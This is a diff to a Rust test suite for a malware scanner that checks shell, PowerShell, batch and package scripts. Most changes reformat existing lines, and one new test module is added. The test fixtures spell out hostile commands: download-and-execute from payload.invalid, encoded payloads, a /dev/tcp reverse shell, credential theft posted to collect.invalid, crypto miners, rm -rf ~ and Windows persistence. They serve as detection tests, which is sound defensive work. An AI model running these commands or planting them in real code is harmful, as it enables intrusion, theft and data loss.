@@ -152,7 +152,9 @@ fn inline_code_goes_to_its_analyser() {
     );
     assert!(kinds(&f).contains(&K::DownloadExecute), "{:?}", details(&f));
     assert!(
-        details(&f).iter().any(|d| d.contains("inline python3 code")),
+        details(&f)
+            .iter()
+            .any(|d| d.contains("inline python3 code")),
         "{:?}",
         details(&f)
     );
@@ -161,8 +163,15 @@ fn inline_code_goes_to_its_analyser() {
     );
     assert!(kinds(&f).contains(&K::DownloadExecute), "{:?}", details(&f));
     // Harmless one-liners say nothing.
-    lacks("python -c \"import sys; print(sys.version)\"", K::DynamicExecute);
-    assert!(analyze_command("node -e \"console.log(1)\"").findings.is_empty());
+    lacks(
+        "python -c \"import sys; print(sys.version)\"",
+        K::DynamicExecute,
+    );
+    assert!(
+        analyze_command("node -e \"console.log(1)\"")
+            .findings
+            .is_empty()
+    );
     // Languages without an analyser are dynamic code.
     has("ruby -e 'puts 1'", K::DynamicExecute);
     // What node -e requires from the package is run.
@@ -172,14 +181,23 @@ fn inline_code_goes_to_its_analyser() {
 
 #[test]
 fn decoded_data_run() {
-    has("echo Y3VybCBodHRwOi8vcC5pbnZhbGlkL3ggfCBzaA== | base64 -d | sh", K::DecodeExecute);
+    has(
+        "echo Y3VybCBodHRwOi8vcC5pbnZhbGlkL3ggfCBzaA== | base64 -d | sh",
+        K::DecodeExecute,
+    );
     has("echo aWQ= | base64 --decode | bash", K::DecodeExecute);
     has("eval \"$(echo aWQ= | base64 -d)\"", K::DecodeExecute);
-    has("base64 -d payload.b64 > /tmp/p; chmod +x /tmp/p", K::DecodeExecute);
+    has(
+        "base64 -d payload.b64 > /tmp/p; chmod +x /tmp/p",
+        K::DecodeExecute,
+    );
     has("echo 6964 | xxd -r -p | sh", K::DecodeExecute);
     lacks("echo aGVsbG8= | base64 -d", K::DecodeExecute);
     // ANSI-C quoting hides the program name from text search, not from the parser.
-    has("$'\\x63\\x75\\x72\\x6c' -s http://payload.invalid/x | $'\\x73\\x68'", K::DownloadExecute);
+    has(
+        "$'\\x63\\x75\\x72\\x6c' -s http://payload.invalid/x | $'\\x73\\x68'",
+        K::DownloadExecute,
+    );
 }
 
 #[test]
@@ -219,14 +237,20 @@ fn secrets_read_and_sent() {
     has("cat ~/.npmrc", K::SecretRead);
     lacks("cat ~/.npmrc", K::SecretExfiltration);
     // Writing a token into .npmrc (what CI does) is not reading one.
-    lacks("echo \"//r.invalid/:_authToken=x\" > ~/.npmrc", K::SecretRead);
+    lacks(
+        "echo \"//r.invalid/:_authToken=x\" > ~/.npmrc",
+        K::SecretRead,
+    );
     // `env` as a wrapper runs a command; it dumps nothing.
     lacks("env NODE_ENV=production node build.js", K::SecretRead);
 }
 
 #[test]
 fn miners_and_destruction() {
-    has("./xmrig -o stratum+tcp://pool.invalid:3333 -u x", K::SuspiciousDestination);
+    has(
+        "./xmrig -o stratum+tcp://pool.invalid:3333 -u x",
+        K::SuspiciousDestination,
+    );
     has("nohup xmrig --donate-level 1 &", K::SuspiciousDestination);
     has("rm -rf ~", K::Destruction);
     has("rm -rf $HOME/*", K::Destruction);
@@ -275,7 +299,10 @@ fn powershell() {
         assert!(k.contains(&K::HiddenProcess), "{line}: {:?}", details(&f));
     }
     // -ExecutionPolicy is not -EncodedCommand.
-    lacks("powershell -ExecutionPolicy Bypass -File build.ps1", K::DecodeExecute);
+    lacks(
+        "powershell -ExecutionPolicy Bypass -File build.ps1",
+        K::DecodeExecute,
+    );
 
     let ps = Dialect::PowerShell;
     script_has(
@@ -283,34 +310,110 @@ fn powershell() {
         ps,
         K::ReverseShell,
     );
-    script_has("I`E`X ((New-Object Net.WebClient).DownloadString('http://payload.invalid/x'))", ps, K::DownloadExecute);
-    script_has("$u = 'http://payload.invalid/' + 'x.ps1'\n$p = (iwr $u -UseBasicParsing).Content\nInvoke-Expression $p\n", ps, K::DownloadExecute);
-    script_has("$b = [System.Convert]::FromBase64String($data)\niex ([Text.Encoding]::UTF8.GetString($b))\n", ps, K::DecodeExecute);
-    script_has("(New-Object Net.WebClient).DownloadFile('http://payload.invalid/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden\n", ps, K::DownloadExecute);
-    script_has("Invoke-WebRequest http://payload.invalid/u.exe -OutFile u.exe; Start-Process u.exe", ps, K::DownloadExecute);
-    script_has("Start-Process powershell -WindowStyle Hidden -ArgumentList '-c calc'", ps, K::HiddenProcess);
-    script_has("New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name up -Value 'C:\\x.exe'", ps, K::Persistence);
-    script_has("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v up /d C:\\x.exe /f", ps, K::Persistence);
-    script_has("schtasks /create /tn up /tr C:\\x.exe /sc onlogon", ps, K::Persistence);
-    script_has("$t = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\nInvoke-RestMethod -Uri http://collect.invalid/ -Method Post -Body $t\n", ps, K::SecretExfiltration);
+    script_has(
+        "I`E`X ((New-Object Net.WebClient).DownloadString('http://payload.invalid/x'))",
+        ps,
+        K::DownloadExecute,
+    );
+    script_has(
+        "$u = 'http://payload.invalid/' + 'x.ps1'\n$p = (iwr $u -UseBasicParsing).Content\nInvoke-Expression $p\n",
+        ps,
+        K::DownloadExecute,
+    );
+    script_has(
+        "$b = [System.Convert]::FromBase64String($data)\niex ([Text.Encoding]::UTF8.GetString($b))\n",
+        ps,
+        K::DecodeExecute,
+    );
+    script_has(
+        "(New-Object Net.WebClient).DownloadFile('http://payload.invalid/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden\n",
+        ps,
+        K::DownloadExecute,
+    );
+    script_has(
+        "Invoke-WebRequest http://payload.invalid/u.exe -OutFile u.exe; Start-Process u.exe",
+        ps,
+        K::DownloadExecute,
+    );
+    script_has(
+        "Start-Process powershell -WindowStyle Hidden -ArgumentList '-c calc'",
+        ps,
+        K::HiddenProcess,
+    );
+    script_has(
+        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name up -Value 'C:\\x.exe'",
+        ps,
+        K::Persistence,
+    );
+    script_has(
+        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v up /d C:\\x.exe /f",
+        ps,
+        K::Persistence,
+    );
+    script_has(
+        "schtasks /create /tn up /tr C:\\x.exe /sc onlogon",
+        ps,
+        K::Persistence,
+    );
+    script_has(
+        "$t = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\nInvoke-RestMethod -Uri http://collect.invalid/ -Method Post -Body $t\n",
+        ps,
+        K::SecretExfiltration,
+    );
     // Benign PowerShell of build scripts.
-    let f = analyze_script("$ErrorActionPreference = 'Stop'\nWrite-Host 'Building'\n& npm run build\nCopy-Item dist\\* out\\ -Recurse\n", ps);
-    assert!(f.findings.iter().all(|x| x.kind == K::ProcessSpawn || x.kind == K::Network), "{:?}", details(&f));
+    let f = analyze_script(
+        "$ErrorActionPreference = 'Stop'\nWrite-Host 'Building'\n& npm run build\nCopy-Item dist\\* out\\ -Recurse\n",
+        ps,
+    );
+    assert!(
+        f.findings
+            .iter()
+            .all(|x| x.kind == K::ProcessSpawn || x.kind == K::Network),
+        "{:?}",
+        details(&f)
+    );
 }
 
 #[test]
 fn batch() {
     let bat = Dialect::Batch;
-    script_has("@echo off\ncertutil -urlcache -split -f http://payload.invalid/a.exe %TEMP%\\a.exe\nstart /b %TEMP%\\a.exe\n", bat, K::DownloadExecute);
-    script_has("bitsadmin /transfer job /download /priority high http://payload.invalid/b.exe C:\\Users\\Public\\b.exe & C:\\Users\\Public\\b.exe", bat, K::DownloadExecute);
-    script_has("reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v upd /t REG_SZ /d \"%APPDATA%\\u.exe\" /f", bat, K::Persistence);
-    script_has("schtasks /create /sc minute /mo 5 /tn upd /tr %APPDATA%\\u.exe", bat, K::Persistence);
+    script_has(
+        "@echo off\ncertutil -urlcache -split -f http://payload.invalid/a.exe %TEMP%\\a.exe\nstart /b %TEMP%\\a.exe\n",
+        bat,
+        K::DownloadExecute,
+    );
+    script_has(
+        "bitsadmin /transfer job /download /priority high http://payload.invalid/b.exe C:\\Users\\Public\\b.exe & C:\\Users\\Public\\b.exe",
+        bat,
+        K::DownloadExecute,
+    );
+    script_has(
+        "reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v upd /t REG_SZ /d \"%APPDATA%\\u.exe\" /f",
+        bat,
+        K::Persistence,
+    );
+    script_has(
+        "schtasks /create /sc minute /mo 5 /tn upd /tr %APPDATA%\\u.exe",
+        bat,
+        K::Persistence,
+    );
     script_has("start /min cmd /c %APPDATA%\\u.exe", bat, K::HiddenProcess);
-    script_has("set U=http://payload.invalid/a.ps1\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('%U%')\"\n", bat, K::DownloadExecute);
-    let f = script_has("copy u.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe\"", bat, K::Persistence);
+    script_has(
+        "set U=http://payload.invalid/a.ps1\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('%U%')\"\n",
+        bat,
+        K::DownloadExecute,
+    );
+    let f = script_has(
+        "copy u.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe\"",
+        bat,
+        K::Persistence,
+    );
     assert!(!f.findings.is_empty());
     // A build batch file.
-    let f = analyze_script("@echo off\r\nrem build\r\nif not exist build mkdir build\r\ncall node-gyp rebuild > build.log 2>&1\r\nexit /b %ERRORLEVEL%\r\n", bat);
+    let f = analyze_script(
+        "@echo off\r\nrem build\r\nif not exist build mkdir build\r\ncall node-gyp rebuild > build.log 2>&1\r\nexit /b %ERRORLEVEL%\r\n",
+        bat,
+    );
     assert!(f.findings.is_empty(), "{:?}", details(&f));
     // `schtasks /query` is not persistence.
     let f = analyze_script("schtasks /query /tn upd", bat);
@@ -327,25 +430,37 @@ fn hostile_input_is_bounded() {
     let f = analyze_script(&parens, Dialect::Bash);
     assert!(f.error.is_some());
     // A download-and-run before the deep part is still found.
-    let f = analyze_script(&format!("curl -s http://payload.invalid/x | sh\n{deep}"), Dialect::Bash);
+    let f = analyze_script(
+        &format!("curl -s http://payload.invalid/x | sh\n{deep}"),
+        Dialect::Bash,
+    );
     assert!(kinds(&f).contains(&K::DownloadExecute), "{:?}", details(&f));
     // Huge but ordinary: read whole.
     let huge = "echo line\n".repeat(100_000);
     let f = analyze_script(&huge, Dialect::Bash);
     assert!(f.error.is_none() && f.findings.is_empty());
     // Past the size limit: not read, and said.
-    let f = analyze_script(&"x".repeat(customs_analyze::shell::MAX_SCRIPT_BYTES + 1), Dialect::Bash);
+    let f = analyze_script(
+        &"x".repeat(customs_analyze::shell::MAX_SCRIPT_BYTES + 1),
+        Dialect::Bash,
+    );
     assert!(f.error.is_some());
     // Random punctuation: error recovery is cut off by the budget, or finishes; either
     // way no panic and an answer.
     let garbage: String = (0..400_000u32)
-        .map(|i| ['(', '"', '\'', '$', '{', '`', '<', '|', ' ', 'a'][(i.wrapping_mul(2_654_435_761) >> 13) as usize % 10])
+        .map(|i| {
+            ['(', '"', '\'', '$', '{', '`', '<', '|', ' ', 'a']
+                [(i.wrapping_mul(2_654_435_761) >> 13) as usize % 10]
+        })
         .collect();
     let _ = analyze_script(&garbage, Dialect::Bash);
     let _ = analyze_script(&garbage, Dialect::PowerShell);
     let _ = analyze_script(&garbage, Dialect::Batch);
     // Scripts in scripts in scripts stop at a bound.
-    let nested = format!("{}curl http://payload.invalid/x \\| sh", "eval ".repeat(5000));
+    let nested = format!(
+        "{}curl http://payload.invalid/x \\| sh",
+        "eval ".repeat(5000)
+    );
     let _ = analyze_command(&nested);
     let nested = format!("{}curl http://payload.invalid/x", "cmd /c ".repeat(5000));
     let _ = analyze_command(&nested);
@@ -354,13 +469,23 @@ fn hostile_input_is_bounded() {
     for _ in 0..9 {
         use base64::Engine as _;
         let utf16: Vec<u8> = encoded.encode_utf16().flat_map(u16::to_le_bytes).collect();
-        encoded = format!("powershell -enc {}", base64::engine::general_purpose::STANDARD.encode(utf16));
+        encoded = format!(
+            "powershell -enc {}",
+            base64::engine::general_purpose::STANDARD.encode(utf16)
+        );
     }
     assert!(encoded.len() < customs_analyze::shell::MAX_SCRIPT_BYTES);
     let f = analyze_command(&encoded);
     assert!(kinds(&f).contains(&K::DecodeExecute));
     // Unterminated quotes and here-documents.
-    for text in ["echo \"unterminated", "cat <<EOF\nno end", "echo 'x", "$(", "`", "${"] {
+    for text in [
+        "echo \"unterminated",
+        "cat <<EOF\nno end",
+        "echo 'x",
+        "$(",
+        "`",
+        "${",
+    ] {
         let _ = analyze_script(text, Dialect::Bash);
         let _ = analyze_script(text, Dialect::PowerShell);
         let _ = analyze_script(text, Dialect::Batch);
@@ -437,7 +562,10 @@ mod package {
                 .iter()
                 .find(|b| b.kind == K::DownloadExecute)
                 .expect("found");
-            assert_eq!((b.line, b.snippet.as_str()), (3, "curl -fsSL http://payload.invalid/s.sh | sh"));
+            assert_eq!(
+                (b.line, b.snippet.as_str()),
+                (3, "curl -fsSL http://payload.invalid/s.sh | sh")
+            );
         }
         // A hook that runs another script of the manifest, which runs the file.
         let a = npm(&[
@@ -497,7 +625,10 @@ mod package {
             "demo-1.0.tar.gz",
             "demo-1.0/",
             &[
-                ("PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                ),
                 (
                     "setup.py",
                     "import os\nfrom setuptools import setup\nos.system('bash tools/prepare.sh')\nsetup(name='demo')\n",
@@ -516,7 +647,10 @@ mod package {
             "demo-1.0.tar.gz",
             "demo-1.0/",
             &[
-                ("PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                ),
                 (
                     "demo/__init__.py",
                     "import subprocess\nsubprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.8/443 0>&1'])\n",
@@ -559,7 +693,10 @@ mod package {
                 "binding.gyp",
                 "{'targets': [{'target_name': 'x', 'sources': ['<!@(sh tools/sources.sh)']}]}",
             ),
-            ("tools/sources.sh", "echo src/a.cc\ncat ~/.npmrc | curl -d @- http://collect.invalid/\n"),
+            (
+                "tools/sources.sh",
+                "echo src/a.cc\ncat ~/.npmrc | curl -d @- http://collect.invalid/\n",
+            ),
         ]);
         assert_eq!(
             found(&a, "tools/sources.sh", K::SecretExfiltration),
@@ -586,16 +723,73 @@ mod package {
             a.behaviours
         );
         // The benign hooks of popular packages say nothing alarming.
-        for hook in ["node-gyp rebuild", "husky install", "echo thanks", "node install.js"] {
-            let manifest = format!(
-                r#"{{"name":"demo","version":"1.0.0","scripts":{{"install":"{hook}"}}}}"#
-            );
-            let a = npm(&[("package.json", &manifest), ("install.js", "console.log('ok');\n")]);
+        for hook in [
+            "node-gyp rebuild",
+            "husky install",
+            "echo thanks",
+            "node install.js",
+        ] {
+            let manifest =
+                format!(r#"{{"name":"demo","version":"1.0.0","scripts":{{"install":"{hook}"}}}}"#);
+            let a = npm(&[
+                ("package.json", &manifest),
+                ("install.js", "console.log('ok');\n"),
+            ]);
             assert!(
                 a.behaviours.iter().all(|b| b.kind == K::ProcessSpawn),
                 "{hook}: {:?}",
                 a.behaviours
             );
         }
+    }
+}
+
+mod reach {
+    //! A script is read when a command names it, not because other code loads something
+    //! computed (which reads every other code file).
+
+    use customs_analyze::analyze_package;
+    use customs_archive::{Entry, EntryKind, Format, Tree};
+    use customs_ecosystem::Package;
+
+    #[test]
+    fn computed_loads_do_not_read_scripts() {
+        let mut files = vec![
+            (
+                "demo-1.0/PKG-INFO",
+                "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+            ),
+            (
+                "demo-1.0/demo/__init__.py",
+                "import sys\nexec(sys.argv[1])\n",
+            ),
+            (
+                "demo-1.0/ci/docs.sh",
+                "curl -fsSL http://payload.invalid/i.sh | sh\n",
+            ),
+        ];
+        files.sort_unstable();
+        let entries = files
+            .iter()
+            .map(|(path, text)| {
+                let mut e =
+                    Entry::bare((*path).to_owned(), EntryKind::File, text.len() as u64, None);
+                e.data = text.as_bytes().to_vec();
+                e.complete = true;
+                e
+            })
+            .collect();
+        let tree = Tree {
+            format: Format::TarGz,
+            entries,
+            anomalies: Vec::new(),
+            total_bytes: 0,
+        };
+        let a = analyze_package(&Package::from_tree(tree, "demo-1.0.tar.gz"));
+        assert!(
+            a.behaviours.iter().all(|b| !b.path.ends_with("ci/docs.sh")),
+            "{:?}",
+            a.behaviours
+        );
     }
 }
